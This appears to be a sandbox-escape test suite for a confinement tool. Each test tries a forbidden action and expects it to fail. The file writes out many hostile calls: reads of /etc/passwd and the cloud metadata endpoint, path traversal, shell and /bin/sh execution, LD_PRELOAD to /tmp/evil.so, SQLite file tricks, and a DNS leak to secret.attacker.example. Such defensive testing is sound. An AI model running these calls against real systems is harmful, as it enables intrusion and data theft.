"""Attacks on what a process was not given: files, variables, the network, other programs, native code."""

import os

from capsend import CaptureError
from hostile.expect import attack


def granted(attempts):
    """Names of the attempts that did not fail, with what they gave."""
    found = {}
    for name, attempt in attempts.items():
        try:
            found[name] = repr(attempt())[:200]
        except (Exception, SystemExit):
            continue
    return found


@attack("normal", returns={})
def read_files():
    paths = (
        "/etc/passwd", "etc/passwd", "../../../../etc/passwd", "/proc/self/environ", "/proc/self/mem", "/dev/null", "/dev/zero",
        "/dev/random", "/dev/stdin", "/dev/fd/0", "/", ".", "..", "", "~", "\\\\?\\C:\\", "file:///etc/passwd", "/python", "/0", "/tmp",
    )  # fmt: skip
    return granted({path: lambda path=path: open(path, "rb") for path in paths})


@attack("normal", returns={})
def write_files():
    import pathlib

    return granted(
        {
            "open": lambda: open("/tmp/capsend-was-here", "w"),
            "relative": lambda: open("capsend-was-here", "x"),
            "os.open": lambda: os.open("/tmp/capsend-was-here", os.O_CREAT | os.O_RDWR),
            "mkdir": lambda: os.mkdir("/tmp/capsend-was-here"),
            "symlink": lambda: os.symlink("/etc/passwd", "/tmp/capsend-was-here"),
            "link": lambda: os.link("/etc/passwd", "/tmp/capsend-was-here"),
            "rename": lambda: os.rename("/etc/passwd", "/tmp/capsend-was-here"),
            "unlink": lambda: os.unlink("/tmp"),
            "truncate": lambda: os.truncate("/etc/passwd", 0),
            "chdir": lambda: os.chdir("/etc"),
            "touch": lambda: pathlib.Path("/tmp/capsend-was-here").touch(),
            "utime": lambda: os.utime("/etc/passwd"),
        }
    )


@attack("normal", returns={})
def list_folders():
    import glob
    import pathlib

    return granted(
        {
            "listdir": lambda: os.listdir("/"),
            "listdir here": os.listdir,
            "scandir": lambda: os.scandir(".."),
            "stat": lambda: os.stat("/"),
            "iterdir": lambda: list(pathlib.Path("/etc").iterdir()),
            "walk": lambda: next(os.walk("/")),
            "glob": lambda: glob.glob("/*")[0],
            "exists": lambda: 1 / os.path.exists("/etc"),
        }
    )


@attack("normal", returns={"read 0": "b''"})
def read_and_steal_descriptors():
    attempts = {}
    for number in range(64):
        attempts[f"read {number}"] = lambda number=number: os.read(number, 100)
        attempts[f"pread {number}"] = lambda number=number: os.pread(number, 100, 0)
        attempts[f"openat {number}"] = lambda number=number: os.open("etc/passwd", os.O_RDONLY, dir_fd=number)
        attempts[f"upwards {number}"] = lambda number=number: os.open("..", os.O_RDONLY, dir_fd=number)
        attempts[f"list {number}"] = lambda number=number: os.listdir(number)
    return granted(attempts)


@attack("normal")
def use_up_descriptors():
    taken = 0
    try:
        while taken < 100_000:
            os.dup(1)
            taken += 1
    except OSError:
        pass
    return taken


def tells_nothing(found):
    """Nothing of this program's variables, folders, user or host is in the text."""
    import getpass
    import platform

    secrets = (
        "capsend-secret",
        os.getcwd(),
        os.path.expanduser("~"),
        os.environ["PATH"],
        platform.node(),
        f"'{getpass.getuser()}'",
    )
    return not [secret for secret in secrets if secret in found]


@attack("normal", returns=tells_nothing)
def read_the_environment():
    import locale
    import platform
    import site
    import sys
    import sysconfig

    things = [
        dict(os.environ), sys.argv, sys.orig_argv, sys.path, sys.executable, sys.prefix, sys.flags, sys._xoptions, os.getpid(),
        sysconfig.get_paths(), platform.uname(), locale.getlocale(), site.ENABLE_USER_SITE, sys.warnoptions,
        [str(getattr(module, "__file__", "")) for name, module in sys.modules.items() if not name.startswith("hostile")],
    ]  # fmt: skip
    os.environ["PATH"] = "/tmp"
    os.putenv("LD_PRELOAD", "/tmp/evil.so")
    return repr(things)


@attack("normal", returns={})
def find_out_who_runs_it():
    import getpass
    import socket

    return granted(
        {
            "user": getpass.getuser,
            "home": lambda: 1 / (os.path.expanduser("~") != "~"),
            "login": lambda: os.getlogin(),
            "host": lambda: 1 / bool(socket.gethostbyname(socket.gethostname())),
        }
    )


@attack("normal", returns={})
def connect():
    import asyncio
    import http.client
    import smtplib
    import socket
    import urllib.request

    return granted(
        {
            "tcp": socket.socket,
            "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
            "six": lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
            "unix": lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
            "raw": lambda: socket.socket(socket.AF_INET, 3),
            "descriptor": lambda: socket.socket(fileno=0),
            "dup": lambda: socket.fromfd(1, socket.AF_INET, socket.SOCK_STREAM),
            "create": lambda: socket.create_connection(("127.0.0.1", 80), timeout=1),
            "serve": lambda: socket.create_server(("127.0.0.1", 0)),
            "pair": lambda: socket.socketpair(),
            "http": lambda: http.client.HTTPConnection("127.0.0.1").request("GET", "/"),
            "metadata": lambda: urllib.request.urlopen("http://169.254.169.254/", timeout=1),
            "file": lambda: urllib.request.urlopen("file:///etc/passwd"),
            "ftp": lambda: urllib.request.urlopen("ftp://127.0.0.1/", timeout=1),
            "mail": lambda: smtplib.SMTP("127.0.0.1", timeout=1),
            "asyncio": lambda: asyncio.run(asyncio.open_connection("127.0.0.1", 80)),
        }
    )


@attack("normal", returns={})
def look_up_names():
    import socket

    return granted(
        {
            "localhost": lambda: socket.getaddrinfo("localhost", 80),
            "leak": lambda: socket.getaddrinfo("secret.attacker.example", None),
            "number": lambda: 1 / bool(socket.gethostbyname("localhost")),
            "reverse": lambda: socket.gethostbyaddr("127.0.0.1"),
        }
    )


@attack("normal")
def make_sockets_without_end():
    import socket

    failed = 0
    for _ in range(20_000):
        try:
            socket.socket()
        except OSError:
            failed += 1
    return failed


@attack("normal", returns={})
def start_programs():
    import concurrent.futures
    import multiprocessing
    import subprocess
    import webbrowser

    return granted(
        {
            "run": lambda: subprocess.run(["true"], check=False),
            "shell": lambda: subprocess.check_output("id", shell=True),
            "popen": lambda: os.popen("id").read(),
            "system": lambda: os.system("id"),
            "fork": lambda: os.fork(),
            "exec": lambda: os.execv("/bin/sh", ["sh"]),
            "spawn": lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
            "kill": lambda: os.kill(1, 9),
            "process": lambda: multiprocessing.Process(target=print).start(),
            "pool": lambda: concurrent.futures.ProcessPoolExecutor(1).submit(print).result(),
            "browser": lambda: 1 / webbrowser.open("http://attacker.example"),
        }
    )


@attack("normal", returns={})
def start_threads():
    import _thread
    import concurrent.futures
    import threading

    return granted(
        {
            "thread": lambda: threading.Thread(target=print).start(),
            "timer": lambda: threading.Timer(0, print).start(),
            "raw": lambda: _thread.start_new_thread(print, ()),
            "joinable": lambda: _thread.start_joinable_thread(print),
            "pool": lambda: concurrent.futures.ThreadPoolExecutor(1).submit(print).result(),
        }
    )


@attack("normal or failed", returns=lambda found: not found)  # asking for a module that nothing names ends the process
def load_native_code():
    import importlib
    import importlib.machinery
    import importlib.util
    import sqlite3
    import sys

    def from_file(path):
        loader = importlib.machinery.ExtensionFileLoader("evil", path)
        return importlib.util.module_from_spec(importlib.util.spec_from_loader("evil", loader))

    def extension():
        connection = sqlite3.connect(":memory:")
        connection.enable_load_extension(True)
        connection.load_extension("/tmp/evil.so")

    sys.path[:] = ["/", "/tmp", ".", "/python"]
    names = (
        "ctypes",
        "_ctypes",
        "cffi",
        "mmap",
        "fcntl",
        "resource",
        "_posixshmem",
        "termios",
        "msvcrt",
        "winreg",
        "_winapi",
        "numpy",
    )
    attempts = {name: lambda name=name: importlib.import_module(name) for name in names}
    return granted(attempts | {"file": lambda: from_file("/lib/x86_64-linux-gnu/libc.so.6"), "sqlite": extension})


@attack("failed", CaptureError)
def import_by_a_name_that_nothing_names():
    import importlib
    import sys

    sys.path[:] = ["/", "..", "/usr/lib/python3", "/0"]
    sys.path_importer_cache.clear()
    return importlib._bootstrap._gcd_import("etc.passwd")


@attack("normal", returns={})
def import_from_the_host():
    import importlib
    import importlib.util
    import sys
    import zipimport

    sys.path[:] = ["/", "..", "/usr/lib/python3", "/0"]
    sys.path_importer_cache.clear()

    def load(path):
        spec = importlib.util.spec_from_file_location("stolen", path)
        spec.loader.exec_module(importlib.util.module_from_spec(spec))

    return granted(
        {
            "path": lambda: load("/etc/passwd.py"),
            "zip": lambda: zipimport.zipimporter("/tmp/x.zip"),
            "run": lambda: __import__("runpy").run_path("/etc/passwd"),
        }
    )


@attack("normal", returns={})
def reach_files_through_libraries():
    import dbm
    import fileinput
    import linecache
    import logging
    import mailbox
    import pathlib
    import shelve
    import shutil
    import tarfile
    import tempfile
    import tokenize
    import zoneinfo

    return granted(
        {
            "linecache": lambda: 1 / len(linecache.getlines("/etc/passwd")),
            "tokenize": lambda: tokenize.open("/etc/passwd"),
            "tempfile": tempfile.TemporaryFile,
            "named": tempfile.NamedTemporaryFile,
            "folder": tempfile.mkdtemp,
            "tar": lambda: tarfile.open("/tmp/x.tar"),
            "copy": lambda: shutil.copy("/etc/passwd", "/tmp/y"),
            "remove": lambda: shutil.rmtree("/tmp"),
            "usage": lambda: shutil.disk_usage("/"),
            "shelve": lambda: shelve.open("/tmp/shelf"),
            "dbm": lambda: dbm.open("/tmp/shelf", "c"),
            "log": lambda: logging.FileHandler("/tmp/log"),
            "mailbox": lambda: mailbox.Maildir("/tmp/mail").add("x"),
            "input": lambda: fileinput.FileInput("/etc/passwd").readline(),
            "zone": lambda: zoneinfo.ZoneInfo("../../../etc/passwd"),
            "zone file": lambda: zoneinfo.ZoneInfo("/etc/localtime"),
            "text": lambda: pathlib.Path("/etc/passwd").read_text(),
        }
    )


@attack("normal", returns={"memory": "[(1,)]"})
def reach_files_through_sqlite():
    import sqlite3

    def run(*statements):
        connection = sqlite3.connect(":memory:")
        for statement in statements:
            rows = connection.execute(statement).fetchall()
        return rows

    return granted(
        {
            "memory": lambda: run("SELECT 1"),
            "attach": lambda: run("ATTACH '/etc/passwd' AS stolen", "SELECT * FROM stolen.sqlite_master"),
            "attach new": lambda: run("ATTACH '/tmp/capsend-was-here.db' AS x", "CREATE TABLE x.t(a)"),
            "uri": lambda: sqlite3.connect("file:/etc/passwd?mode=ro&immutable=1", uri=True).execute(
                "SELECT * FROM sqlite_master"
            ),
            "vacuum": lambda: run("CREATE TABLE t(a)", "VACUUM INTO '/tmp/capsend-was-here.db'"),
            "readfile": lambda: run("SELECT readfile('/etc/passwd')"),
            "writefile": lambda: run("SELECT writefile('/tmp/capsend-was-here', 'x')"),
            "extension": lambda: run("SELECT load_extension('/tmp/evil.so')"),
            "temp": lambda: sqlite3.connect("").execute("SELECT * FROM no_such_table"),
        }
    )


@attack("normal", returns={})
def name_the_devices():
    names = (
        "/dev/stdout",
        "/dev/stderr",
        "/dev/tty",
        "/dev/mem",
        "/dev/urandom",
        "/dev/full",
        "CON",
        "NUL",
        "COM1",
        "/sys/kernel",
    )
    found = granted({name: lambda name=name: os.open(name, os.O_RDWR) for name in names})
    # A terminal would be a way back in.
    return found | {str(number): "a terminal" for number in range(8) if os.isatty(number)}
